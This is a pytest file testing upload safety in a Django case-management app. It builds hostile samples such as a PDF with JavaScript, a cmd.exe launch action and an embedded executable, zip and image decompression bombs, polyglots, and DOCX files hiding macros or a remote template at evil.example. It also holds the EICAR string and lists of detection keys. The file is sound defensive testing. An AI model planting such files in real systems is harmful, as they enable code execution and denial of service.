"""Hostile uploads (等保 level 3): each file is built here, sent the way a unit sends it
(the evidence page or the API), and either refused with a Chinese reason and nothing kept,
or — a PDF with active content — stored as a clean copy that qpdf shows to be clean."""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import socket
import struct
import subprocess
import tempfile
import threading
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from django.urls import reverse
from PIL import Image, PngImagePlugin

from casework import upload_safety, uploads
from casework.models import Attachment, AuditEntry
from casework.roles import Role
from oversight.models import ScoreLine

from . import rectification_steps as steps
from .api_fixtures import api
from .assessment_cases import BASE, messages_of, post, scoring
from .factories import UserFactory

pytestmark = pytest.mark.django_db

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE_BYTES = upload_safety.OLE_MAGIC + b"\x00" * 504


@pytest.fixture(autouse=True)
def upload_root(settings, tmp_path):
    settings.CHENGXIN_UPLOAD_ROOT = tmp_path / "uploads"
    settings.CHENGXIN_TODAY = "2026-09-01"
    return settings.CHENGXIN_UPLOAD_ROOT


@pytest.fixture
def item(officer, approver, unit):
    return steps.in_progress(officer=officer, approver=approver, unit=unit).items.get()


def files_in(root) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def page_upload(client, liaison, item, name: str, content: bytes) -> str:
    """Send one file through the unit's evidence page; the page's verdict on it."""
    client.force_login(liaison)
    page = reverse("unit-item-evidence", args=[item.pk])
    response = client.post(page, {"file": [steps.upload(name, content)]})
    assert response.status_code == 302
    html = client.get(page).content.decode()
    found = re.search(
        r'<li class="(done|refused)"><span class="name">.*?</span>\s*<span class="status">(.*?)</span>', html
    )
    assert found, html[:3000]
    return f"{found[1]}: {found[2]}"


def api_upload(liaison, item, name: str, content: bytes):
    return api(liaison).post(
        f"/api/rectification-items/{item.pk}/evidence/",
        {"file": steps.upload(name, content)},
        format="multipart",
    )


def assert_refused(response, code: str, words: str, upload_root) -> None:
    assert response.status_code == 400, response.data
    assert (response.data["field"], response.data["code"]) == ("file", code), response.data
    assert words in response.data["detail"]
    assert not Attachment.objects.exists() and files_in(upload_root) == []


# ── hostile files, built here ───────────────────────────────────────────────────────


def hostile_pdf() -> bytes:
    """JavaScript on open, a launch action on a page and a link, embedded files, XFA."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    js = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pwned')"))
    )
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=js)
    payload = pdf.make_stream(steps.EXE_BYTES)
    payload.Type = pikepdf.Name.EmbeddedFile
    filespec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=payload)
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), js])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a.exe"), filespec])),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    page.obj.AA = pikepdf.Dictionary(O=launch)
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=launch
    )
    web = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 100, 100, 200],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.creditchina.gov.cn/")),
    )
    attached = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 200, 10, 210], FS=filespec
    )
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([link, web, attached]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def png_with_text(text: bytes) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode("latin-1"))
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` × `height` pixels (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    header = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def content_types(
    *overrides: tuple[str, str],
    main: str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
) -> str:
    parts = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{parts}</Types>'
    )


def relationships(*rels: tuple[str, str]) -> str:
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(rels, 2)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL}">{body}</Relationships>'


def docx(
    *extra: tuple[str, bytes | str], types: str | None = None, document_rels: str | None = None
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types or content_types())
        archive.writestr("_rels/.rels", relationships((f"{OFFICE_REL}/officeDocument", "word/document.xml")))
        archive.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
        )
        archive.writestr("word/_rels/document.xml.rels", document_rels or relationships())
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bomb(gib: int = 1) -> bytes:
    """A DOCX whose one picture inflates to `gib` GiB of zeros: about 1 MB per GiB here."""
    buffer = io.BytesIO(docx())
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            for _ in range(1024 * gib):
                member.write(zeros)
    return buffer.getvalue()


# ── PDFs: stored clean ──────────────────────────────────────────────────────────────


def test_a_pdf_with_javascript_launch_and_embedded_files_is_stored_as_a_clean_copy(
    client, liaison, item, upload_root
):
    original = hostile_pdf()
    assert page_upload(client, liaison, item, "整改报告.pdf", original) == "done: 已上传。"
    attachment = Attachment.objects.get()
    stored = uploads.stored_path(attachment.stored_name)
    cleaned = stored.read_bytes()
    assert attachment.sha256 == hashlib.sha256(cleaned).hexdigest() != hashlib.sha256(original).hexdigest()
    assert attachment.size == len(cleaned)
    entry = AuditEntry.objects.get(action="attachment.upload", object_id=str(attachment.pk))
    assert hashlib.sha256(original).hexdigest() in json.dumps(entry.diff)  # the upload's own hash kept

    shown = (
        subprocess.run(
            ["qpdf", "--json", "--json-stream-data=inline", str(stored)],
            capture_output=True,
            text=True,
            check=False,
        )
        if shutil.which("qpdf")
        else None
    )
    texts = [shown.stdout] if shown is not None else []
    with pikepdf.open(stored) as pdf:
        texts.append(repr([pdf.Root, *pdf.objects]))
        assert len(pdf.pages) == 1
        uri = [a.A.URI for a in pdf.pages[0].Annots if "/A" in a]
    for text in texts:
        for active in (
            "/JavaScript",
            "/OpenAction",
            "/Launch",
            "/EmbeddedFiles",
            "/EmbeddedFile",
            "/JS",
            "/XFA",
            "/AA",
            "/FileAttachment",
        ):
            assert active not in text, active
        assert "cmd.exe" not in text and "pwned" not in text
    assert uri == ["https://www.creditchina.gov.cn/"]  # a web link is kept
    assert b"This program cannot be run" not in cleaned


def test_a_pdf_pikepdf_cannot_open_is_refused(liaison, item, upload_root):
    response = api_upload(liaison, item, "回单.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 20)
    assert_refused(response, "bad_pdf", "不是可读取的 PDF 文档", upload_root)


# ── polyglots and images ────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("照片.jpg", steps.JPEG_BYTES + steps.PDF_BYTES),  # a PDF after the JPEG's end
        ("截图.png", png_with_text(b"%PDF-1.7 1 0 obj")),  # a PDF header in the first 1024 bytes
        ("回单.pdf", steps.PDF_BYTES + steps.DOCX_BYTES),  # a ZIP directory at the end of a PDF
        ("照片.jpg", steps.JPEG_BYTES + steps.DOCX_BYTES),  # … and of an image
        ("说明.docx", steps.zip_bytes("%PDF-1.7 1 0 obj", "[Content_Types].xml", "word/document.xml")),
    ],
)
def test_a_file_valid_as_two_kinds_is_refused(liaison, item, upload_root, name, content):
    response = api_upload(liaison, item, name, content)
    assert response.status_code == 400, response.data
    assert response.data["code"] == "polyglot", response.data
    assert "同时是多种格式的文件" in response.data["detail"]
    assert not Attachment.objects.exists() and files_in(upload_root) == []


def test_a_named_polyglot_is_refused_in_chinese(client, liaison, item, upload_root):
    verdict = page_upload(client, liaison, item, "照片.jpg", steps.JPEG_BYTES + steps.PDF_BYTES)
    assert (
        verdict
        == "refused: 文件“照片.jpg”同时是多种格式的文件（可能夹带其他内容），不能上传，请另存为普通文件后再试。"
    )
    assert not Attachment.objects.exists() and files_in(upload_root) == []


def test_images_are_re_encoded_without_metadata(liaison, item):
    photo = Image.new("RGB", (16, 8), (200, 30, 30))
    exif = Image.Exif()
    exif[0x0112] = 6  # taken rotated
    exif[0x010F] = "伪造的相机厂商"
    out = io.BytesIO()
    photo.save(out, format="JPEG", exif=exif, comment=b"secret")
    response = api_upload(liaison, item, "现场照片.jpg", out.getvalue())
    assert response.status_code == 201, response.data
    stored = uploads.stored_path(Attachment.objects.get().stored_name).read_bytes()
    with Image.open(io.BytesIO(stored)) as image:
        assert image.size == (8, 16)  # turned upright, so the orientation tag may go
        assert not image.getexif() and "comment" not in image.info


def test_a_decompression_bomb_image_is_refused(liaison, item, upload_root):
    response = api_upload(liaison, item, "截图.png", png_claiming(100_000, 100_000))
    assert_refused(response, "image_too_large", "像素过多", upload_root)


# ── Office packages ─────────────────────────────────────────────────────────────────


def test_a_docx_zip_bomb_is_refused_every_time(client, liaison, item, upload_root):
    bomb = docx_bomb()
    assert len(bomb) < 3 * 1024 * 1024  # 1 GiB inside
    for _ in range(2):
        verdict = page_upload(client, liaison, item, "说明.docx", bomb)
        assert verdict == "refused: 文件“说明.docx”解压后过大或压缩比异常（疑似压缩炸弹），不能上传。"
    assert not Attachment.objects.exists() and files_in(upload_root) == []


def test_too_much_in_total_is_refused_even_at_ordinary_ratios(settings, liaison, item, upload_root):
    settings.CHENGXIN_UPLOAD_ZIP_MAX_TOTAL = 64 * 1024
    content = docx(*((f"word/media/image{n}.png", bytes(range(256)) * 100) for n in range(4)))
    assert_refused(api_upload(liaison, item, "说明.docx", content), "zip_bomb", "压缩炸弹", upload_root)


@pytest.mark.parametrize(
    "content",
    [
        # an executable under a picture's name
        docx(("word/media/image1.png", steps.EXE_BYTES)),
        # an OLE object in the usual place
        docx(("word/embeddings/oleObject1.bin", OLE_BYTES)),
        # a macro project renamed, declared only by its content type
        docx(
            ("word/data.bin", b"x"),
            types=content_types(("/word/data.bin", "application/vnd.ms-office.vbaProject")),
        ),
        # … only by a relationship
        docx(("word/data.bin", b"x"), document_rels=relationships((f"{OFFICE_REL}/vbaProject", "data.bin"))),
        # … only by its bytes (a compound file)
        docx(("word/data.bin", OLE_BYTES)),
        # a macro-enabled main part
        docx(types=content_types(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        # ActiveX controls
        docx(("word/activeX/activeX1.xml", "<ax/>")),
        docx(
            document_rels=relationships(
                (f"{OFFICE_REL}/control", "activeX/a.xml"),
                (
                    "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
                    "activeX/a.bin",
                ),
            )
        ),
    ],
    ids=[
        "exe-as-png",
        "ole-object",
        "renamed-vba-content-type",
        "renamed-vba-relationship",
        "renamed-vba-bytes",
        "macro-enabled",
        "activex-part",
        "activex-rel",
    ],
)
def test_a_docx_with_macros_executables_or_embedded_objects_is_refused(liaison, item, upload_root, content):
    assert_refused(
        api_upload(liaison, item, "说明.docx", content), "macro", "含有宏、嵌入对象或控件", upload_root
    )


def test_a_docx_with_a_remote_template_is_refused(liaison, item, upload_root):
    rels = f'<?xml version="1.0"?><Relationships xmlns="{REL}"><Relationship Id="rId9" Type="{OFFICE_REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    content = docx(("word/_rels/settings.xml.rels", rels))
    assert_refused(api_upload(liaison, item, "说明.docx", content), "macro", "含有宏", upload_root)


def test_an_ofd_bomb_is_refused_by_the_same_limits(liaison, item, upload_root):
    buffer = io.BytesIO(steps.OFD_BYTES)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Doc_0/Res/big.bin", bytes(4 * 1024 * 1024))
    assert_refused(
        api_upload(liaison, item, "批复.ofd", buffer.getvalue()), "zip_bomb", "压缩炸弹", upload_root
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("回单.pdf", steps.PDF_BYTES),
        ("截图.png", steps.PNG_BYTES),
        ("现场照片.jpg", steps.JPEG_BYTES),
        ("说明.docx", docx(("word/media/image1.png", steps.PNG_BYTES))),
        ("批复.ofd", steps.OFD_BYTES),
    ],
)
def test_clean_files_are_still_accepted(client, liaison, item, name, content):
    assert page_upload(client, liaison, item, name, content) == "done: 已上传。"
    attachment = Attachment.objects.get()
    assert uploads.stored_path(attachment.stored_name).read_bytes() == content
    assert attachment.sha256 == hashlib.sha256(content).hexdigest()


# ── the virus scanner ───────────────────────────────────────────────────────────────


def eicar_scanner(data: bytes, name: str) -> str | None:
    """The test double: finds only the EICAR test string."""
    return "Eicar-Test-Signature" if EICAR in data else None


def unreachable_scanner(data: bytes, name: str) -> str | None:
    raise upload_safety.ScannerUnavailable("connection refused")


def pdf_with_eicar() -> bytes:
    return steps.PDF_BYTES.replace(b"%%EOF", b"%" + EICAR + b"\n%%EOF")


def test_the_scanner_refuses_eicar_and_lets_clean_files_through(settings, client, liaison, item, upload_root):
    settings.CHENGXIN_UPLOAD_SCANNER = "tests.test_sec_uploads.eicar_scanner"
    verdict = page_upload(client, liaison, item, "回单.pdf", pdf_with_eicar())
    assert verdict == "refused: 文件“回单.pdf”未通过病毒检查（Eicar-Test-Signature），不能上传。"
    assert files_in(upload_root) == []
    assert page_upload(client, liaison, item, "回单.pdf", steps.PDF_BYTES) == "done: 已上传。"


def test_an_unreachable_scanner_refuses_the_file(settings, liaison, item, upload_root):
    settings.CHENGXIN_UPLOAD_SCANNER = "tests.test_sec_uploads.unreachable_scanner"
    assert_refused(
        api_upload(liaison, item, "回单.pdf", steps.PDF_BYTES),
        "scan_unavailable",
        "病毒检查服务暂时无法使用",
        upload_root,
    )


@pytest.fixture(params=["unix", "tcp"])
def clamd_socket(request):
    """A stand-in clamd on a Unix or TCP socket that speaks INSTREAM and knows only EICAR."""
    folder = Path(tempfile.mkdtemp(prefix="clamd-", dir="/tmp"))
    if request.param == "unix":
        path = folder / "clamd.sock"
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(str(path))
        address = f"unix://{path}"
    else:
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.bind(("127.0.0.1", 0))
        address = f"tcp://127.0.0.1:{server.getsockname()[1]}"
    server.listen(4)
    received: list[bytes] = []

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                stream = conn.makefile("rb")
                assert stream.read(10) == b"zINSTREAM\0"
                data = b""
                while size := struct.unpack("!L", stream.read(4))[0]:
                    data += stream.read(size)
                received.append(data)
                conn.sendall(b"stream: Eicar-Test-Signature FOUND\0" if EICAR in data else b"stream: OK\0")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield address, received
    server.close()
    shutil.rmtree(folder, ignore_errors=True)


def test_clamd_is_asked_over_its_socket(settings, liaison, item, upload_root, clamd_socket):
    address, received = clamd_socket
    settings.CHENGXIN_CLAMD = address
    refused = api_upload(liaison, item, "回单.pdf", pdf_with_eicar())
    assert_refused(refused, "virus", "未通过病毒检查（Eicar-Test-Signature）", upload_root)
    assert api_upload(liaison, item, "回单.pdf", steps.PDF_BYTES).status_code == 201
    assert received == [pdf_with_eicar(), steps.PDF_BYTES]


def test_clamd_not_listening_refuses_the_file(settings, liaison, item, upload_root):
    settings.CHENGXIN_CLAMD = "unix:///nonexistent/clamd.ctl"
    assert_refused(
        api_upload(liaison, item, "回单.pdf", steps.PDF_BYTES),
        "scan_unavailable",
        "病毒检查服务",
        upload_root,
    )


# ── the assessment's evidence goes through the same checks ──────────────────────────


@pytest.mark.usefixtures("issuer")
def test_assessment_evidence_is_checked_like_any_upload(client, unit, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    assessor = UserFactory(username="assessor", roles=[Role.ASSESSOR])
    assessment = scoring(client, assessor)
    bonus = assessment.indicators.get(code="bonus")
    data = {"organisation": unit.pk, "indicator": bonus.pk, "points": "3", "reason": "获省级诚信建设表彰。"}
    url = f"{BASE}2026/adjustments/"
    refused = post(
        client, assessor, url, {**data, "evidence": steps.upload("表彰.pdf", steps.EXE_BYTES)}, follow=True
    )
    assert "文件“表彰.pdf”的内容是可执行程序，不能上传。" in messages_of(refused)
    assert not ScoreLine.objects.filter(origin="manual").exists()
    post(client, assessor, url, {**data, "evidence": steps.upload("表彰.pdf", hostile_pdf())})
    line = ScoreLine.objects.get(origin="manual")
    with line.evidence.open("rb") as stored, pikepdf.open(io.BytesIO(stored.read())) as pdf:
        text = repr([pdf.Root, *pdf.objects])
    assert "/OpenAction" not in text and "/JavaScript" not in text and "/Launch" not in text
